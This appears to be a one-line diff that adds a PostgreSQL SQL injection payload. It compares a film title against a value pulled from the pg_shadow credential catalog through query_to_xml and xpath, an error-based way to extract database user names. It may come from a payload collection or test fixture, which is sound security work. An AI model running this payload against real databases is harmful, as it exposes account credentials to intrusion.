@@ -1,0 +1,1 @@
+SELECT title FROM film WHERE title = (xpath('//usename/text()', query_to_xml('select usename from pg_shadow', true, true, '')))[1]::text
